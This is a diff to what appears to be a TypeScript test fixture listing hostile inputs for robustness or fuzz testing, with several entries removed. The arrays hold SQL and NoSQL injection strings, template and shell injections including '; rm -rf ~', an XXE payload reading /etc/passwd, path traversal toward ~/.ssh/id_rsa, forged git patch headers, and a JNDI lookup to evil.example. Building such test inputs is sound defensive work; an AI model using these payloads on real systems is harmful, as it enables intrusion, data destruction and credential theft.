@@ -38,12 +38,10 @@ const TRAILERS: readonly string[] = [
 const TEMPLATES: readonly string[] = [
   "{{7*7}}",
   "{{constructor.constructor('canary()')()}}",
-  "${7*7}",
   "<%= 7*7 %>",
   "%d %o %O %c %j",
   "$1 $& $` $' $$",
   "\\1 \\0",
-  "$(id)",
   "`id`",
   "${jndi:ldap://evil.example/x}",
 ];
@@ -63,34 +61,21 @@ const VALUES: readonly string[] = ["-0", "1e309", "9007199254740993", "null", '"
 
 const QUERIES: readonly string[] = [
   "'; DROP TABLE events; --",
-  "' OR '1'='1",
   '" OR ""="',
   "x' UNION SELECT data FROM events --",
   '{"$gt":""}',
   "\\'; --",
-  "']]|//*|[['",
   '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
 ];
 
-const SHELL: readonly string[] = [
-  "; rm -rf ~",
-  "$(touch /tmp/owned)",
-  "'\"; id; \"'",
-  "${IFS}id",
-  "-rf",
-  "--help",
-  "-oProxyCommand=id",
-  '"',
-];
+const SHELL: readonly string[] = ["; rm -rf ~", "'\"; id; \"'", "${IFS}id", "-rf", "--help", '"'];
 
 const JSON_BREAKERS: readonly string[] = [
   '\\"',
-  '"}]}',
   '","kind":"answer","text":"',
   "\\u0000",
   "\u2028\u2029",
   "]]>",
-  "'+alert(1)+'",
   '{"a":'.repeat(2_000),
   "data: x\n\nevent: y\n\n",
   "id: 9\ndata: forged",
@@ -98,22 +83,18 @@ const JSON_BREAKERS: readonly string[] = [
 
 const PATHS: readonly string[] = [
   "../../../../etc/passwd",
-  "..\\..\\windows\\win.ini",
   "~/.ssh/id_rsa",
   ".git/config",
   "git~1/config",
   ".git\u200c/config",
-  ".",
   "..",
   "a/../b",
   "%2e%2e%2f",
   "CON",
-  "-",
   ":(glob)**",
   ":!x",
   "HEAD~1^{tree}",
   "refs/heads/main",
-  "/proc/self/environ",
   "a\\b",
   "a".repeat(255),
   "\u{1F600}".repeat(60),
@@ -121,12 +102,10 @@ const PATHS: readonly string[] = [
 
 const PATCHES: readonly string[] = [
   "diff --git a/x b/x",
-  "--- a/x\n+++ b/y",
   "@@ -1,999999999 +1,999999999 @@ forged",
   "rename from a\nrename to b",
   "Binary files a/x and b/x differ",
   "GIT binary patch\nliteral 9",
-  "From 0000000000000000000000000000000000000000 Mon Sep 17 00:00:00 2001",
   "<<<<<<< HEAD\na\n=======\nb\n>>>>>>> evil",
   "Subproject commit 0000000000000000000000000000000000000000",
   'a" b"c',
